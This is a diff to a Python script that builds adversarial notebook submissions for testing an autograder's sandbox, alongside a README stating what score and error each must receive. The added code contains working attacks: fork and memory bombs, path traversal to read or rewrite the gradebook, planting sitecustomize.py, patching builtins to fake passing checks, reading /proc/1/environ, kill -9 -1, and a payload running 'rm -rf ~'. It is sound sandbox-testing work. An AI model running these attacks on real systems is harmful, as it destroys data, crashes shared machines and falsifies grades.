@@ -15,14 +15,25 @@ code that computes from the learner's own data, so each runs for whoever submits
 
 Submission times come from ``course/due_dates.csv``: on time is 21:15 Dhaka time the day
 before the due date (1 day 2 h 44 min early); late is 1 day 10 h 6 min after it.
+
+``attacks/<assignment>/<attack>/`` holds submissions that attack the grader (issue 6: endless
+loops, memory and fork bombs, reading or writing other people's files, patched builtins,
+tampered test cells, broken files, ...), one per learner ``attack-<attack>``, and
+``attacks/README.md`` says what each tries and what grading must give it (see the
+"attacks on the grader" part below).
 """
 
 from __future__ import annotations
 
 import datetime as dt
+import json
 import shutil
 import tempfile
+import textwrap
+from collections.abc import Callable
+from dataclasses import dataclass, field
 from pathlib import Path
+from typing import Any
 
 import nbformat
 
@@ -516,6 +527,741 @@ def write_sample(folder: Path, template: nbformat.NotebookNode, filled: dict[str
     (folder / "timestamp.txt").write_text(stamp + "\n")
 
 
+# ------------------------------------------------------------------ attacks on the grader
+# Issue 6: submissions that try to cheat, to crash or hang the grading run, or to reach the
+# gradebook, the hidden tests and other learners' files.  ``attacks/<assignment>/<attack>/``
+# is what learner ``attack-<attack>`` submitted, made from the released notebook like every
+# sample; ``attacks/README.md`` (written below) says what each tries and what grading must
+# give it.  They live outside ``<assignment>/`` so the sample class keeps its ten outcomes.
+#
+# A cheat carries no honest answer, so it earns 0.  The few marked "answered" also answer
+# every part correctly, to show that the trick neither gains nor loses anything: they earn
+# the 7 automatic points of an honest notebook, never more.
+
+ATTACKS = HERE / "attacks"
+ER, BEST, GOAL = "engagement_rate_by_reach_answer", "best_platform_answer", "smart_goal_answer"
+TESTS = ("engagement_rate_by_reach", "best_platform", "smart_goal")
+DAEMON_MARK = "smm-attack-daemon"
+"""In the command line of the process the ``daemon`` attack leaves behind (tests look for it)."""
+
+
+def _code(text: str) -> str:
+    return textwrap.dedent(text).strip("\n")
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack: what it tries, what it must earn, and how its notebook is made."""
+
+    tries: str
+    """What it tries, in an instructor's words."""
+    score: int
+    """The automatic points it must earn (of 7)."""
+    kinds: tuple[str, ...]
+    """The problem kinds the autograde summary must name for it."""
+    answers: dict[str, str] = field(default_factory=dict)
+    """Code typed into the released notebook, by grade_id (as for the samples)."""
+    edit: Callable[[dict[str, Any]], None] | None = None
+    """A change to the notebook's JSON (test cells, ids, metadata)."""
+    raw: bytes | None = None
+    """The notebook file's bytes, when it is not a notebook at all."""
+    name: str | None = f"{ASSIGNMENT}.ipynb"
+    """The notebook's file name (None: no notebook)."""
+
+
+SEARCH_FILE_SYSTEM = _code('''
+    # Attack: search the whole file system for the gradebook, the instructor's notebook (with
+    # its hidden tests) and other learners' notebooks, and print whatever turns up.
+    import os
+    import time
+
+    WANTED = {"gradebook.db", "nbgrader_config.py", "roster.csv"}
+    SKIP = {"/proc", "/sys", "/dev", "/usr", os.path.expanduser("~")}  # not a course's place
+    deadline = time.monotonic() + 3  # stay inside the cell's time limit
+    found = []
+    for top, folders, files in os.walk("/"):
+        folders[:] = [f for f in folders if os.path.join(top, f) not in SKIP
+                      and f not in ("site-packages", "__pycache__")]
+        if time.monotonic() > deadline:
+            break
+        for name in files:
+            path = os.path.join(top, name)
+            if name in WANTED:
+                found.append(path)
+            elif name.endswith(".ipynb"):
+                try:
+                    with open(path, encoding="utf-8") as notebook:
+                        text = notebook.read()
+                except (OSError, UnicodeDecodeError):
+                    continue
+                if "HIDDEN TESTS" in text or "engagement_rate_by_reach" in text:
+                    found.append(path)
+    print("found:", found)''')
+
+CLIMB_TO_READ = _code('''
+    # Attack: climb out of the learner's folder with ../ to where nbgrader keeps the
+    # gradebook, the instructor's source and everyone's submissions; peek at the first
+    # process's files too.
+    import os
+
+    A = "01-platforms-and-planning"
+    TARGETS = ["gradebook.db", "nbgrader_config.py", f"source/{A}/{A}.ipynb",
+               f"assignments/{A}/{A}.ipynb", f"submitted/sample-all-correct/{A}/{A}.ipynb",
+               f"sample-all-correct/{A}/{A}.ipynb", f"autograded/sample-all-correct/{A}/{A}.ipynb"]
+    found = []
+    for depth in range(1, 9):
+        for target in TARGETS:
+            try:
+                with open("../" * depth + target, "rb") as file:
+                    found.append(("../" * depth + target, len(file.read())))
+            except OSError:
+                pass
+    for path in ("/proc/1/root", "/proc/1/cwd"):
+        try:
+            found.append((path, os.listdir(path)))
+        except OSError:
+            pass
+    try:
+        with open("/proc/1/environ", "rb") as file:
+            found.append(("/proc/1/environ", file.read()))
+    except OSError:
+        pass
+    print("found:", found)''')
+
+LEARN_PLACES_TO_READ = _code('''
+    # Attack: learn where the course is from the environment and from the folders mounted
+    # into this machine, then look for the gradebook and submissions around each of them.
+    import os
+    from pathlib import Path
+
+    places = {p for value in os.environ.values() for p in value.split(":") if p.startswith("/")}
+    with open("/proc/self/mountinfo") as mounts:
+        places |= {line.split()[3] for line in mounts}  # each mount's folder on the host
+    own = os.path.expanduser("~")
+    found = set()
+    for place in places:
+        for folder in [Path(place), *Path(place).parents]:
+            for target in ("gradebook.db", "course/gradebook.db", "nbgrader_config.py",
+                           "course/nbgrader_config.py", "submitted", "course/submitted",
+                           "assignments", "course/source", "exchange"):
+                path = folder / target
+                try:
+                    if path.exists() and not str(path).startswith(own):
+                        found.add(str(path))
+                except OSError:  # not allowed to look there
+                    pass
+    print("found:", sorted(found))''')
+
+CLIMB_TO_WRITE = _code('''
+    # Attack: climb out of the learner's folder and change the gradebook and another
+    # learner's notebook (appending a line; a real attack would rewrite the scores).
+    A = "01-platforms-and-planning"
+    TARGETS = ["gradebook.db", f"submitted/sample-all-correct/{A}/{A}.ipynb",
+               f"sample-all-correct/{A}/{A}.ipynb", f"source/{A}/{A}.ipynb",
+               f"assignments/{A}/{A}.ipynb", "nbgrader_config.py", "roster.csv"]
+    changed = []
+    for depth in range(1, 9):
+        for target in TARGETS:
+            try:
+                with open("../" * depth + target, "r+b") as file:  # files that exist
+                    file.seek(0, 2)
+                    file.write(b"\\n# changed by attack-write-files\\n")
+                changed.append("../" * depth + target)
+            except OSError:
+                pass
+    print("changed:", changed)''')
+
+REWRITE_GRADEBOOK = _code('''
+    # Attack: open any gradebook it can reach as a database and give everyone full marks.
+    import sqlite3
+
+    candidates = ["../" * depth + "gradebook.db" for depth in range(1, 9)]
+    candidates += ["/srv/nbgrader/gradebook.db", "/home/instructor/course/gradebook.db",
+                   "/course/gradebook.db", "/tmp/gradebook.db"]
+    changed = []
+    for path in candidates:
+        try:
+            with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
+                db.execute("UPDATE grade SET manual_score = max_score")
+            changed.append(path)
+        except sqlite3.Error:
+            pass
+    print("changed:", changed)''')
+
+PLANT_CODE = _code('''
+    # Attack: plant code the grader itself would run: a sitecustomize module beside Python's
+    # libraries (every Python imports it when it starts), and a changed SMM Lab check.
+    import os
+    import site
+
+    import smm_helpers.checks.asserts as asserts
+
+    changed = []
+    for folder in [*site.getsitepackages(), os.path.dirname(os.__file__)]:
+        try:
+            with open(os.path.join(folder, "sitecustomize.py"), "a") as module:
+                module.write("print('planted by attack-write-files')\\n")
+            changed.append(folder)
+        except OSError:
+            pass
+    try:
+        with open(asserts.__file__, "a") as module:
+            module.write("\\nexpect_close = lambda *a, **k: None  # attack-write-files\\n")
+        changed.append(asserts.__file__)
+    except OSError:
+        pass
+    print("changed:", changed)''')
+
+PATCH_BUILTINS = _code('''
+    # Attack: change Python's builtins so that every check passes: every type check says
+    # yes, every table has six rows, every difference is zero, a failed assert is no error.
+    import builtins
+
+
+    class NotAFailure(Exception):
+        pass
+
+
+    builtins.isinstance = lambda value, kinds: True
+    builtins.len = lambda value: 6
+    builtins.abs = lambda value: 0
+    builtins.AssertionError = NotAFailure
+    __builtins__.ValueError = NotAFailure
+    er_by_platform = "every platform is the best"''')
+
+PATCH_CHECKS = _code('''
+    # Attack: replace SMM Lab's checks with ones that always pass: in the module, in
+    # sys.modules (for a fresh import) and as the names the test cells call.
+    import sys
+    import types
+
+    import smm_helpers.checks.asserts as asserts
+
+
+    def passes(*args, **kwargs):
+        return None
+
+
+    for name in dir(asserts):
+        if name.startswith("expect_"):
+            setattr(asserts, name, passes)
+    fake = types.ModuleType("smm_helpers.checks.asserts")
+    fake.__getattr__ = lambda name: passes
+    sys.modules["smm_helpers.checks.asserts"] = fake
+    expect_type = expect_labels = expect_between = expect_close = passes
+    expect_equal = expect_one_of = expect_true = passes
+    er_by_platform = "checked by nobody"''')
+
+IPYTHON_HOOKS = _code('''
+    # Attack: change how IPython runs and reports code, so checks vanish or their errors do:
+    # an input transformer and an AST transformer that drop checks, error handlers that
+    # swallow errors, and an event that clears a cell's error.
+    import ast
+    import sys
+
+    ip = get_ipython()
+
+
+    def drop_checks(lines):
+        return [line for line in lines if "expect_" not in line and "assert" not in line]
+
+
+    class NoChecks(ast.NodeTransformer):
+        def visit_Assert(self, node):
+            return ast.Pass()
+
+        def visit_Expr(self, node):
+            call = node.value
+            if isinstance(call, ast.Call) and getattr(call.func, "id", "").startswith("expect"):
+                return ast.Pass()
+            return node
+
+
+    def swallow(shell, etype, value, tb, tb_offset=None):
+        return None
+
+
+    def forget_errors(result):
+        result.error_in_exec = None
+
+
+    ip.input_transformers_post.append(drop_checks)
+    ip.ast_transformers.append(NoChecks())
+    ip.set_custom_exc((BaseException,), swallow)
+    ip.showtraceback = lambda *args, **kwargs: None
+    sys.excepthook = lambda *args: None
+    ip.events.register("post_run_cell", forget_errors)
+    er_by_platform = "no checks left"''')
+
+ALWAYS_EQUAL = _code('''
+    # Attack: answers that say yes to every comparison: an object equal to everything, a
+    # pandas Series whose == is always true, and text that equals and contains any text.
+    import pandas as pd
+
+
+    class Anything:
+        def __eq__(self, other):
+            return True
+
+        def __ne__(self, other):
+            return False
+
+        __lt__ = __le__ = __gt__ = __ge__ = __eq__
+
+        def __hash__(self):
+            return 0
+
+        def __getattr__(self, name):
+            return self
+
+        def __call__(self, *args, **kwargs):
+            return self
+
+
+    class AlwaysEqualSeries(pd.Series):
+        def __eq__(self, other):
+            return True
+
+        def equals(self, other):
+            return True
+
+
+    class AnyText(str):
+        def __eq__(self, other):
+            return True
+
+        def __contains__(self, part):
+            return True
+
+        def lower(self):
+            return self
+
+        __hash__ = str.__hash__
+
+
+    er_by_platform = AlwaysEqualSeries({"facebook": 2.0, "instagram": 2.0})
+    anything = Anything()''')
+
+ALWAYS_EQUAL_TEXT = _code('''
+    # Text that says it equals every platform and contains every word.
+    best_platform = AnyText("whichever you like")
+    best_platform''')
+
+ALWAYS_EQUAL_GOAL = _code('''
+    smart_goal = AnyText("a goal")
+    ok = anything == "SMART"''')
+
+FORGE_ANSWERS = _code('''
+    # Attack: replace what the grader calls to read the answers in this kernel, and send it
+    # forged data instead: classes from outside SMM Lab (hoping the grader imports and runs
+    # them), a module that does not exist, and numbers too big to read.
+    import json
+
+    import smm_helpers.grading.sandbox.answers as answers
+
+    FORGED = {
+        "er_by_platform": {"t": "dataclass", "cls": "subprocess:Popen",
+                           "fields": {"args": {"t": "str", "v": "touch /tmp/pwned"}}},
+        "best_platform": {"t": "enum", "cls": "os:system", "name": "touch /tmp/pwned"},
+        "smart_goal": {"t": "namedtuple", "cls": "smm_helpers.no_such_module:Goal", "v": []},
+    }
+
+
+    def forged(namespace, names):
+        return json.dumps({name: FORGED.get(name, {"t": "int", "v": "9" * 5000})
+                           for name in names})
+
+
+    answers.export = forged
+    answers.encode_names = forged
+    get_ipython().user_expressions = lambda expressions: {
+        key: {"status": "ok", "data": {"text/plain": repr(forged({}, list(FORGED)))},
+              "metadata": {}} for key in expressions}''')
+
+FORGE_NESTING = _code('''
+    # Attack: answer every question the grader asks this kernel with JSON nested 100,000
+    # lists deep, hoping the grader's reader overflows and the whole grading run crashes.
+    deep = '{"er_by_platform": ' + "[" * 100_000 + "]" * 100_000 + "}"
+    get_ipython().user_expressions = lambda expressions: {
+        key: {"status": "ok", "data": {"text/plain": repr(deep)}, "metadata": {}}
+        for key in expressions}''')
+
+INFINITE_LOOP = _code('''
+    # Attack: never finish, hoping the grader waits forever.
+    spins = 0
+    while True:
+        spins += 1''')
+
+SLEEP_FOREVER = _code('''
+    # Attack: sleep for a billion seconds (about 32 years).
+    import time
+
+    time.sleep(1_000_000_000)''')
+
+MEMORY_BOMB = _code('''
+    # Attack: take all the machine's memory, 100 MB more at a time, never freed.
+    hoard = []
+    while True:
+        hoard.append("x" * 100_000_000)''')
+
+MEMORY_AT_ONCE = _code('''
+    # Attack: ask for 64 GB at once.
+    huge = bytearray(64 * 1024**3)''')
+
+FORK_BOMB = _code('''
+    # Attack: the classic fork bomb: every process copies itself, forever.
+    import os
+
+    while True:
+        os.fork()''')
+
+PROCESS_FLOOD = _code('''
+    # Attack: start sleeping processes until the machine can start no more.
+    import os
+    import time
+
+    while True:
+        if os.fork() == 0:
+            time.sleep(3600)
+            os._exit(0)''')
+
+SIGINT_IGNORED = _code('''
+    # Attack: ignore the stop signal (Ctrl-C, "interrupt kernel"), then loop forever.
+    import signal
+
+    signal.signal(signal.SIGINT, signal.SIG_IGN)
+    while True:
+        pass''')
+
+DAEMON = _code(f'''
+    # Attack: leave a process behind that outlives grading: fork twice, leave the session
+    # (a daemon), and sleep for ten minutes under a recognisable name.
+    import os
+    import sys
+    import time
+
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
+                                      "{DAEMON_MARK}"])
+        os._exit(0)
+    time.sleep(0.5)
+    print("left a daemon behind")''')
+
+SIGNAL_GRADER = _code('''
+    # Attack: stop the grader: signal the parent process, the first process (pid 1) and
+    # its process group, and print what worked.
+    import os
+    import signal
+
+    results = []
+    for target in (os.getppid(), 1):
+        try:
+            os.kill(target, signal.SIGTERM)
+            results.append(f"signalled {target}")
+        except OSError as error:
+            results.append(f"could not signal {target}: {error.strerror}")
+    try:
+        os.killpg(1, signal.SIGTERM)
+        results.append("signalled group 1")
+    except OSError as error:
+        results.append(f"could not signal group 1: {error.strerror}")
+    print(results)''')
+
+SIGNAL_EVERYONE = _code('''
+    # Attack: kill every process it is allowed to (kill -9 -1).
+    import os
+    import signal
+
+    os.kill(-1, signal.SIGKILL)''')
+
+NETWORK = _code('''
+    # Attack: reach the internet (to send the answers out, or fetch someone else's):
+    # a connection, a name lookup, then a web page.
+    import socket
+    import urllib.request
+
+    for host in ("1.1.1.1", "8.8.8.8"):
+        try:
+            socket.create_connection((host, 53), timeout=2).close()
+            print("connected to", host)
+        except OSError as error:
+            print("no connection to", host, "-", error)
+    try:
+        print(socket.getaddrinfo("example.com", 80))
+    except OSError as error:
+        print("no name lookup -", error)
+    urllib.request.urlopen("http://example.com", timeout=2)''')
+
+
+def _cells(nb: dict[str, Any]) -> list[dict[str, Any]]:
+    return nb["cells"]
+
+
+def _grade_id(cell: dict[str, Any]) -> str | None:
+    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
+
+
+def _edit_tests(nb: dict[str, Any]) -> None:
+    for cell in _cells(nb):
+        if _grade_id(cell) in TESTS:
+            cell["source"] = "pass  # the checks were here"
+
+
+def _delete_tests(nb: dict[str, Any]) -> None:
+    nb["cells"] = [c for c in _cells(nb) if _grade_id(c) not in TESTS]
+
+
+def _duplicate_ids(nb: dict[str, Any]) -> None:
+    cells = []
+    for cell in _cells(nb):
+        cells.append(cell)
+        if _grade_id(cell) in TESTS:  # a second copy after it, which nbgrader would keep
+            copy = json.loads(json.dumps(cell))
+            copy["source"] = "pass  # this copy of the test cell passes"
+            cells.append(copy)
+    for cell in cells:
+        cell["id"] = "same-id"
+    nb["cells"] = cells
+
+
+def _thousand_points(nb: dict[str, Any]) -> None:
+    for cell in _cells(nb):
+        meta = cell.get("metadata", {}).get("nbgrader", {})
+        if "points" in meta:
+            meta["points"] = 1000
+
+
+def _locked_cell(grade_id: str, source: str, **flags: Any) -> dict[str, Any]:
+    meta = {"grade": False, "grade_id": grade_id, "locked": True, "schema_version": 3,
+            "solution": False, "task": False, **flags}
+    return {"cell_type": "code", "execution_count": None, "id": f"claim-{grade_id}",
+            "metadata": {"deletable": False, "editable": False, "nbgrader": meta},
+            "outputs": [], "source": source}
+
+
+PLANT_FROM_A_LOCKED_CELL = _code('''
+    # Attack: this cell claims to be the instructor's read-only {what}, hoping the grader
+    # runs it itself, outside the sandbox, with the instructor's rights.
+    from pathlib import Path
+
+    for folder in (".", "..", "../..", "../../..", "/tmp"):
+        try:
+            (Path(folder) / "planted-by-a-locked-cell.txt").write_text("ran outside\\n")
+        except OSError:
+            pass''')
+
+
+def _claim_ids(nb: dict[str, Any]) -> None:
+    cells = _cells(nb)
+    for cell in cells:
+        if _grade_id(cell) == ER:  # the answer cell claims to be the test that checks it
+            cell["metadata"]["nbgrader"].update(grade=True, grade_id=TESTS[0], locked=True,
+                                                points=3, solution=False)
+            cell["source"] = "er_by_platform = 'I am the test now'"
+    at = next(i for i, c in enumerate(cells) if _grade_id(c) == "setup") + 1
+    cells[at:at] = [
+        _locked_cell("setup", PLANT_FROM_A_LOCKED_CELL.format(what="setup cell")),
+        _locked_cell("instructor_tools", PLANT_FROM_A_LOCKED_CELL.format(what="tools cell")),
+        _locked_cell("bonus_points", "pass  # a test nobody wrote, worth 100 points",
+                     grade=True, points=100)]
+
+
+def _notebook_bytes(template: nbformat.NotebookNode) -> bytes:
+    return nbformat.writes(nbformat.from_dict(template)).encode("utf-8")
+
+
+def attacks(template: nbformat.NotebookNode) -> dict[str, Attack]:
+    """Every attack on assignment 01, by folder name (learner ``attack-<name>``)."""
+    released = _notebook_bytes(template)
+    no_cells = json.loads(released)
+    no_cells["cells"] = []
+    return {
+        "infinite-loop": Attack(
+            "an endless loop in the first answer", 0, ("timeout",), {ER: INFINITE_LOOP}),
+        "sleep-forever": Attack(
+            "sleeps for a billion seconds", 0, ("timeout",), {ER: SLEEP_FOREVER}),
+        "memory-bomb": Attack(
+            "grows a list by 100 MB at a time, then asks for 64 GB at once", 0,
+            ("memory limit",), {ER: MEMORY_BOMB, BEST: MEMORY_AT_ONCE}),
+        "fork-bomb": Attack(
+            "the classic fork bomb (`while True: os.fork()`)", 0,
+            ("too many processes",), {ER: FORK_BOMB}),
+        "process-flood": Attack(
+            "starts sleeping processes until no more can start", 0,
+            ("too many processes",), {ER: PROCESS_FLOOD}),
+        "sys-exit": Attack(
+            "`sys.exit()`, `raise SystemExit` and `exit()` in the answers", 0,
+            ("kernel died",), {ER: "import sys\n\nsys.exit('finished early')",
+                               BEST: "raise SystemExit(0)", GOAL: "exit()"}),
+        "os-exit": Attack(
+            "stops its Python at once with `os._exit(0)`", 0, ("kernel died",),
+            {ER: "import os\n\nos._exit(0)"}),
+        "kill-kernel": Attack(
+            "kills its own kernel (`os.kill(os.getpid(), SIGKILL)`)", 0,
+            ("kernel died", "tampered interpreter"),
+            {ER: "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)"}),
+        "print-100mb": Attack(
+            "prints 100 MB", 0, ("output cut",),
+            {ER: _code('''
+                # Attack: print 100 MB, 1 MB at a time.
+                line = "spam " * 200_000 + "\\n"
+                for _ in range(100):
+                    print(line, end="")''')}),
+        "read-files": Attack(
+            "searches the file system (`os.walk('/')`), climbs with `../` and reads what "
+            "the environment and mounts reveal, for the gradebook, hidden tests and other "
+            "learners' notebooks", 0, ("blocked file access",),
+            {ER: SEARCH_FILE_SYSTEM, BEST: CLIMB_TO_READ, GOAL: LEARN_PLACES_TO_READ}),
+        "write-files": Attack(
+            "appends to the gradebook and another learner's notebook through `../`, rewrites "
+            "scores with sqlite3, plants `sitecustomize.py` and changes SMM Lab's checks", 0,
+            ("blocked file access",),
+            {ER: CLIMB_TO_WRITE, BEST: REWRITE_GRADEBOOK, GOAL: PLANT_CODE}),
+        "patch-builtins": Attack(
+            "replaces `isinstance`, `len`, `abs`, `AssertionError` and `ValueError` in "
+            "builtins so every check passes", 0, ("tampered interpreter",),
+            {ER: PATCH_BUILTINS, BEST: 'best_platform = "all of them"',
+             GOAL: 'smart_goal = "be the best"'}),
+        "patch-checks": Attack(
+            "replaces SMM Lab's `expect_*` checks (in the module, in `sys.modules` and by "
+            "name) with ones that always pass", 0, ("tampered interpreter",),
+            {ER: PATCH_CHECKS, BEST: 'best_platform = "checked by nobody"',
+             GOAL: 'smart_goal = "checked by nobody"'}),
+        "ipython-hooks": Attack(
+            "input and AST transformers that drop checks, `set_custom_exc`, `showtraceback`, "
+            "`sys.excepthook` and a `post_run_cell` event that hide errors", 0,
+            ("tampered interpreter",),
+            {ER: IPYTHON_HOOKS, BEST: 'best_platform = "no checks left"',
+             GOAL: 'smart_goal = "no checks left"'}),
+        "always-equal": Attack(
+            "answers whose `__eq__` is always true: an object, a `pd.Series` subclass, a "
+            "`str` subclass", 0, ("tampered interpreter",),
+            {ER: ALWAYS_EQUAL, BEST: ALWAYS_EQUAL_TEXT, GOAL: ALWAYS_EQUAL_GOAL}),
+        "forged-answers": Attack(
+            "replaces the function the grader calls to read its answers, and sends forged "
+            "data naming `subprocess.Popen`, `os.system` and a module that does not exist",
+            0, ("tampered interpreter",), {ER: FORGE_ANSWERS}),
+        "forged-nesting": Attack(
+            "answers the grader's questions with JSON nested 100,000 lists deep", 0,
+            ("tampered interpreter",), {ER: FORGE_NESTING}),
+        "edit-tests": Attack(
+            "replaces every test cell with `pass`", 0, ("tampered tests",),
+            edit=_edit_tests),
+        "delete-tests": Attack(
+            "deletes every test cell", 0, ("tampered tests",), edit=_delete_tests),
+        "delete-tests-answered": Attack(
+            "answered: every part correct, and every test cell deleted (they are put back)",
+            7, ("tampered tests",), dict(CORRECT), edit=_delete_tests),
+        "duplicate-ids": Attack(
+            "answered: every part correct; every cell has the same id, and each test cell has "
+            "a passing copy after it (as a copy-paste in Jupyter makes)", 7,
+            ("tampered tests",), dict(CORRECT), edit=_duplicate_ids),
+        "points-1000": Attack(
+            "answered: every part correct, and every graded cell claims 1000 points", 7,
+            ("tampered tests",), dict(CORRECT), edit=_thousand_points),
+        "claim-ids": Attack(
+            "an answer cell claims to be its test; new cells claim to be the read-only setup "
+            "cell, a read-only tools cell and a 100-point test", 0, ("tampered tests",),
+            edit=_claim_ids),
+        "corrupted-json": Attack(
+            "broken JSON with code in it", 0, ("corrupted",),
+            raw=b'{"cells": [{"cell_type": "code", "source": "import os\\nos.system(\'rm'
+                b' -rf ~\')", "metadata": {"nbgrader": {"grade": true, "points": 1000'),
+        "non-utf8": Attack(
+            "the released notebook with bytes that are not UTF-8 in an answer", 0,
+            ("corrupted",), raw=released.replace(b"# YOUR CODE HERE", b"# caf\xe9 \xff\xfe",
+                                                 1)),
+        "wrong-filename": Attack(
+            "answered: every part correct, saved as `01-platforms-and-planning-final.ipynb`",
+            0, ("wrong filename",), dict(CORRECT), name=f"{ASSIGNMENT}-final.ipynb"),
+        "missing-notebook": Attack(
+            "hands in a text file of answers and no notebook", 0, ("missing",), name=None),
+        "empty-file": Attack(
+            "an empty file (0 bytes) with the notebook's name", 0, ("empty",), raw=b""),
+        "no-cells": Attack(
+            "a notebook with no cells at all", 0, ("empty", "tampered tests"),
+            raw=(json.dumps(no_cells, indent=1, ensure_ascii=False) + "\n").encode("utf-8")),
+        "network": Attack(
+            "connects to 1.1.1.1 and 8.8.8.8, looks up example.com and fetches a web page",
+            0, ("blocked network",), {ER: NETWORK}),
+        "sigint-ignored": Attack(
+            "ignores the stop signal (SIGINT), then loops forever", 0,
+            ("tampered interpreter", "kernel died"), {ER: SIGINT_IGNORED}),
+        "daemon": Attack(
+            "forks twice, leaves the session and sleeps (a daemon meant to outlive grading)",
+            0, ("too many processes",), {ER: DAEMON}),
+        "signal-grader": Attack(
+            "signals its parent, pid 1 and process group 1, then `kill -9 -1`", 0,
+            ("tampered interpreter",), {ER: SIGNAL_GRADER, BEST: SIGNAL_EVERYONE}),
+    }
+
+
+def write_attack(folder: Path, template: nbformat.NotebookNode, attack: Attack) -> None:
+    """One attack's submission folder: its notebook (or bytes, or none) and its time."""
+    folder.mkdir(parents=True)
+    (folder / "timestamp.txt").write_text(ON_TIME + "\n")
+    if attack.name is None:
+        (folder / "answers.txt").write_text("My answers are in my head.\n")
+        return
+    if attack.raw is not None:
+        (folder / attack.name).write_bytes(attack.raw)
+        return
+    nb = nbformat.from_dict(template)
+    for cell in nb.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if grade_id in attack.answers:
+            cell.source = attack.answers[grade_id]
+    data = json.loads(nbformat.writes(nb))
+    if attack.edit is not None:
+        attack.edit(data)
+    (folder / attack.name).write_text(json.dumps(data, indent=1, sort_keys=True,
+                                                 ensure_ascii=False) + "\n", encoding="utf-8")
+
+
+def attacks_readme(found: dict[str, Attack]) -> str:
+    """``attacks/README.md``: each attack, what it tries, and what grading must give it."""
+    rows = "\n".join(f"| {name} | {a.tries} | {a.score} | {', '.join(a.kinds)} |"
+                     for name, a in found.items())
+    return f"""# Attacks on the grader (issue 6)
+
+`{ASSIGNMENT}/<attack>/` is what learner `attack-<attack>` submitted for assignment 01:
+each tries to cheat, to crash or hang the grading run, or to reach the gradebook, the hidden
+tests or other learners' files. They are made from the released notebook by
+`python course/samples/make_samples.py`, and graded with the real pipeline, in one class
+with honest learners, by `tests/test_grading_adversarial.py` (which also writes attacks
+that know the course's real absolute paths, and one that plants a symbolic link).
+
+A cheat carries no honest answer, so it earns 0 of the 7 automatic points. Those marked
+*answered* also answer every part correctly: a trick neither gains nor loses anything, so
+they earn the 7 points any correct notebook earns (the 3 hand-graded points are not
+automatic). "Problems" are the kinds the autograde summary names, each with a message that
+says what happened; a submission may get more of them (a timeout is also reported when a
+kernel had to be stopped, for example).
+
+Whatever a submission does, the run finishes, every honest learner in the same class gets
+their exact score, the gradebook holds one submission per learner with exactly the
+assignment's graded cells and the instructor's points, no file outside the sandbox changes,
+and no process a submission started is still running afterwards.
+
+| attack | what it tries | points | problems |
+|---|---|---|---|
+{rows}
+"""
+
+
+def write_attacks(template: nbformat.NotebookNode) -> int:
+    """Write every attack's folder and the README; returns how many attacks there are."""
+    found = attacks(template)
+    out = ATTACKS / ASSIGNMENT
+    shutil.rmtree(out, ignore_errors=True)
+    for name, attack in found.items():
+        write_attack(out / name, template, attack)
+    (ATTACKS / "README.md").write_text(attacks_readme(found), encoding="utf-8")
+    return len(found)
+
+
 def main() -> None:
     templates, due = released_notebooks([ASSIGNMENT, *SAMPLES])
     if stamps(due[ASSIGNMENT]) != (ON_TIME, LATE):
@@ -550,6 +1296,8 @@ def main() -> None:
             write_sample(out / outcome, templates[assignment], filled, f"{assignment}.ipynb",
                          late if outcome == "late" else on_time)
         print(f"wrote {len(outcomes)} samples to {out}")
+
+    print(f"wrote {write_attacks(template)} attacks to {ATTACKS / ASSIGNMENT}")
 
 
 if __name__ == "__main__":
